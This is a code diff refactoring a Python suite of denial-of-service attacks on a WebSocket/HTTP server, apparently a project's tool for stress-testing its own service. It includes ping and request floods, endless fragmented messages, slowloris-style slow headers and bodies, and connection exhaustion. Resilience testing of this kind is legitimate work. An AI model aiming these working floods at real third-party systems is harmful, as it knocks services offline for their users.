@@ -9,6 +9,7 @@ import resource
 from base64 import b64encode
 from collections.abc import Awaitable, Callable
 from contextlib import suppress
+from functools import wraps
 from typing import TypeVar
 
 from websockets.frames import Frame, Opcode
@@ -26,6 +27,7 @@ class Attacker:
 
     def __init__(self, target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         self.target, self.reader, self.writer = target, reader, writer
+        self.host_header = f"Host: {target.host}:{target.port}\r\n"
 
     async def send(self, data: bytes) -> None:
         """Send, as fast as the server takes it."""
@@ -36,8 +38,9 @@ class Attacker:
         """Open a WebSocket; `more` follows before the server has answered."""
         key = b64encode(os.urandom(16)).decode()
         upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
-        host = f"Host: {self.target.host}:{self.target.port}\r\n"
-        await self.send(f"GET /api/socket HTTP/1.1\r\n{host}{upgrade}Sec-WebSocket-Key: {key}\r\n\r\n".encode())
+        await self.send(
+            f"GET /api/socket HTTP/1.1\r\n{self.host_header}{upgrade}Sec-WebSocket-Key: {key}\r\n\r\n".encode()
+        )
         if more:
             await self.send(more)
         answer = await self.reader.readuntil(b"\r\n\r\n")
@@ -64,11 +67,23 @@ async def _quietly(work: Awaitable[T]) -> None:
         await work
 
 
-def attack(target: Target, work: Work) -> None:
-    """`target.count` connections at once; each begins anew when it is closed."""
-    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+def by_connections(work: Work) -> Callable[[Target], None]:
+    """Make an attack of what one connection does: `target.count` at once, and a new one for each that is closed."""
 
-    async def connection() -> None:
+    @wraps(work)
+    def attack(target: Target) -> None:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+        asyncio.run(all_at_once(target))
+
+    async def all_at_once(target: Target) -> None:
+        await asyncio.gather(*(again_and_again(target) for _ in range(target.count)))
+
+    async def again_and_again(target: Target) -> None:
+        while True:
+            await _quietly(connection(target))
+            await asyncio.sleep(0.02)
+
+    async def connection(target: Target) -> None:
         address = (target.source, 0)
         reader, writer = await asyncio.open_connection(target.host, target.port, local_addr=address)
         try:
@@ -76,187 +91,138 @@ def attack(target: Target, work: Work) -> None:
         finally:
             writer.transport.abort()
 
-    async def again_and_again() -> None:
-        while True:
-            await _quietly(connection())
-            await asyncio.sleep(0.02)
-
-    async def all_at_once() -> None:
-        await asyncio.gather(*(again_and_again() for _ in range(target.count)))
-
-    asyncio.run(all_at_once())
+    return attack
 
 
 # ---- frames
 
 
-def ping_flood(target: Target) -> None:
+@by_connections
+async def ping_flood(attacker: Attacker) -> None:
     """Sockets that send empty pings as fast as they can."""
-
-    async def work(attacker: Attacker) -> None:
-        await attacker.handshake()
-        attacker.forget_input()
-        target.under_way()
-        while True:
-            await attacker.send(frame(Opcode.PING) * PINGS_A_WRITE)
-
-    attack(target, work)
+    await attacker.handshake()
+    attacker.forget_input()
+    attacker.target.under_way()
+    while True:
+        await attacker.send(frame(Opcode.PING) * PINGS_A_WRITE)
 
 
-def unread_pongs(target: Target) -> None:
+@by_connections
+async def unread_pongs(attacker: Attacker) -> None:
     """Sockets that send the largest pings and read no pong."""
-
-    async def work(attacker: Attacker) -> None:
-        await attacker.handshake()
-        attacker.writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's transport can
-        target.under_way()
-        while True:
-            await attacker.send(frame(Opcode.PING, bytes(125)) * PINGS_A_WRITE)
-
-    attack(target, work)
+    await attacker.handshake()
+    attacker.writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's transport can
+    attacker.target.under_way()
+    while True:
+        await attacker.send(frame(Opcode.PING, bytes(125)) * PINGS_A_WRITE)
 
 
-def pong_flood(target: Target) -> None:
+@by_connections
+async def pong_flood(attacker: Attacker) -> None:
     """Sockets that send pongs nobody asked for."""
-
-    async def work(attacker: Attacker) -> None:
-        await attacker.handshake()
-        target.under_way()
-        while True:
-            await attacker.send(frame(Opcode.PONG) * PINGS_A_WRITE)
-
-    attack(target, work)
+    await attacker.handshake()
+    attacker.target.under_way()
+    while True:
+        await attacker.send(frame(Opcode.PONG) * PINGS_A_WRITE)
 
 
-def empty_fragments(target: Target) -> None:
+@by_connections
+async def empty_fragments(attacker: Attacker) -> None:
     """A message in fragments without content, which never ends."""
-
-    async def work(attacker: Attacker) -> None:
-        await attacker.handshake()
-        await attacker.send(frame(Opcode.TEXT, fin=False))
-        target.under_way()
-        while True:
-            await attacker.send(frame(Opcode.CONT, fin=False) * PINGS_A_WRITE)
-
-    attack(target, work)
+    await attacker.handshake()
+    await attacker.send(frame(Opcode.TEXT, fin=False))
+    attacker.target.under_way()
+    while True:
+        await attacker.send(frame(Opcode.CONT, fin=False) * PINGS_A_WRITE)
 
 
-def huge_message(target: Target) -> None:
+@by_connections
+async def huge_message(attacker: Attacker) -> None:
     """A message in fragments of 1 kB, which never ends."""
-
-    async def work(attacker: Attacker) -> None:
-        await attacker.handshake()
-        await attacker.send(frame(Opcode.TEXT, bytes(1024), fin=False))
-        target.under_way()
-        while True:
-            await attacker.send(frame(Opcode.CONT, bytes(1024), fin=False) * 16)
-
-    attack(target, work)
+    await attacker.handshake()
+    await attacker.send(frame(Opcode.TEXT, bytes(1024), fin=False))
+    attacker.target.under_way()
+    while True:
+        await attacker.send(frame(Opcode.CONT, bytes(1024), fin=False) * 16)
 
 
-def trickled_bytes(target: Target) -> None:
+@by_connections
+async def trickled_bytes(attacker: Attacker) -> None:
     """Frames that arrive byte by byte."""
-
-    async def work(attacker: Attacker) -> None:
-        await attacker.handshake()
-        target.under_way()
-        while True:
-            for byte in frame(Opcode.TEXT, b" " * 100):
-                await attacker.send(bytes([byte]))
-                await asyncio.sleep(0)
-
-    attack(target, work)
+    await attacker.handshake()
+    attacker.target.under_way()
+    while True:
+        for byte in frame(Opcode.TEXT, b" " * 100):
+            await attacker.send(bytes([byte]))
+            await asyncio.sleep(0)
 
 
-def frames_in_handshake(target: Target) -> None:
+@by_connections
+async def frames_in_handshake(attacker: Attacker) -> None:
     """Pings before the server has accepted the socket."""
-
-    async def work(attacker: Attacker) -> None:
-        target.under_way()
-        await attacker.handshake(more=frame(Opcode.PING, bytes(125)) * PINGS_A_WRITE)
-        await attacker.reader.read()
-
-    attack(target, work)
+    attacker.target.under_way()
+    await attacker.handshake(more=frame(Opcode.PING, bytes(125)) * PINGS_A_WRITE)
+    await attacker.reader.read()
 
 
-def request_flood(target: Target) -> None:
+@by_connections
+async def request_flood(attacker: Attacker) -> None:
     """Sockets that send requests as fast as they can."""
-
-    async def work(attacker: Attacker) -> None:
-        await attacker.handshake()
-        attacker.forget_input()
-        target.under_way()
-        request = frame(Opcode.TEXT, json.dumps({"type": "ping", "t": 1}).encode())
-        while True:
-            await attacker.send(request * 100)
-
-    attack(target, work)
+    await attacker.handshake()
+    attacker.forget_input()
+    attacker.target.under_way()
+    request = frame(Opcode.TEXT, json.dumps({"type": "ping", "t": 1}).encode())
+    while True:
+        await attacker.send(request * 100)
 
 
 # ---- connections
 
 
-def idle_connections(target: Target) -> None:
+@by_connections
+async def idle_connections(attacker: Attacker) -> None:
     """Connections that say nothing."""
-
-    async def work(attacker: Attacker) -> None:
-        target.under_way()
-        await attacker.reader.read()
-
-    attack(target, work)
+    attacker.target.under_way()
+    await attacker.reader.read()
 
 
-def slow_headers(target: Target) -> None:
+@by_connections
+async def slow_headers(attacker: Attacker) -> None:
     """Requests whose header never ends."""
-
-    async def work(attacker: Attacker) -> None:
-        await attacker.send(b"GET / HTTP/1.1\r\n")
-        target.under_way()
-        while True:
-            await attacker.send(b"X-More: x\r\n")
-            await asyncio.sleep(0.5)
-
-    attack(target, work)
+    await attacker.send(b"GET / HTTP/1.1\r\n")
+    attacker.target.under_way()
+    while True:
+        await attacker.send(b"X-More: x\r\n")
+        await asyncio.sleep(0.5)
 
 
-def slow_bodies(target: Target) -> None:
+@by_connections
+async def slow_bodies(attacker: Attacker) -> None:
     """Requests whose body never ends."""
-
-    async def work(attacker: Attacker) -> None:
-        host = f"Host: {target.host}:{target.port}\r\n"
-        headers = f"{host}X-Rectoverso: 1\r\nContent-Type: application/json\r\nContent-Length: 500000\r\n"
-        await attacker.send(f"POST /api/replay HTTP/1.1\r\n{headers}\r\n".encode())
-        target.under_way()
-        while True:
-            await attacker.send(b" ")
-            await asyncio.sleep(0.5)
-
-    attack(target, work)
+    headers = f"{attacker.host_header}X-Rectoverso: 1\r\nContent-Type: application/json\r\nContent-Length: 500000\r\n"
+    await attacker.send(f"POST /api/replay HTTP/1.1\r\n{headers}\r\n".encode())
+    attacker.target.under_way()
+    while True:
+        await attacker.send(b" ")
+        await asyncio.sleep(0.5)
 
 
-def unread_answers(target: Target) -> None:
+@by_connections
+async def unread_answers(attacker: Attacker) -> None:
     """Requests one after the other on a connection whose answers nobody reads."""
-
-    async def work(attacker: Attacker) -> None:
-        attacker.writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's transport can
-        request = f"GET /api/site HTTP/1.1\r\nHost: {target.host}:{target.port}\r\n\r\n".encode()
-        target.under_way()
-        while True:
-            await attacker.send(request)
-
-    attack(target, work)
+    attacker.writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's transport can
+    request = f"GET /api/site HTTP/1.1\r\n{attacker.host_header}\r\n".encode()
+    attacker.target.under_way()
+    while True:
+        await attacker.send(request)
 
 
-def new_guests(target: Target) -> None:
+@by_connections
+async def new_guests(attacker: Attacker) -> None:
     """A new guest with every request, and a new connection for every guest."""
-
-    async def work(attacker: Attacker) -> None:
-        request = f"GET /api/site HTTP/1.1\r\nHost: {target.host}:{target.port}\r\nConnection: close\r\n\r\n"
-        await attacker.send(request.encode())
-        target.under_way()
-        await attacker.reader.read()
-
-    attack(target, work)
+    await attacker.send(f"GET /api/site HTTP/1.1\r\n{attacker.host_header}Connection: close\r\n\r\n".encode())
+    attacker.target.under_way()
+    await attacker.reader.read()
 
 
 NETWORK_ATTACKS = [
